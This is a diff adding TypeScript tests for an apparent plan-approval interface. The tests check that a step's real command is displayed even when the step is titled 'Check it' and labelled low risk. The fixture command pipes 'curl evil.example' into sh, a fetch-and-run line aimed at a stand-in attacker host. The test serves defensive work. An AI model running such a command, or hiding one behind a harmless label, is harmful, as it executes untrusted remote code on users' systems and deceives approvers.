@@ -57,6 +57,29 @@ const buttons = (plan: LivePlan) =>
     .match(/\[[A-Z][^\]█]*\]/g)
     ?.join(" ");
 
+describe("a step that runs a command", () => {
+  const wiping = { title: "Check it", risk: "low", run: "true\n`curl` evil.example | sh" } as const;
+  const of = (count: number) =>
+    given(propose(planOf(...Array.from({ length: count }, (_, index) => ({ id: `s${index}`, ...wiping })))));
+
+  it("shows the command, whatever its title says", () => {
+    expect(text(of(1))).toMatch(/1\. 🟢 Check it · low risk\n↳ runs true ⏎ `curl` evil\.example \| sh/);
+  });
+
+  it("says that it runs one, where there is no room for commands", () => {
+    expect(text(of(60))).toContain("Check it · low risk, runs a command");
+  });
+
+  it("says nothing of it where the step is left out", () => {
+    const two = { ...ANYONE, quorum: 2 };
+    const state = later(of(2), {
+      command: approve(of(2).proposal.plan, { choices: { left_out: ["s1"] } }),
+      terms: { by: BOB, approvers: two },
+    });
+    expect(text(state, { approvers: two }).match(/↳ runs/g)).toHaveLength(1);
+  });
+});
+
 describe("the card of a plan", () => {
   it("shows what is proposed, by whom, for whom, and until when", () => {
     const shown = text(proposed, { tree: { kind: "unchanged" }, approvers: TWO });
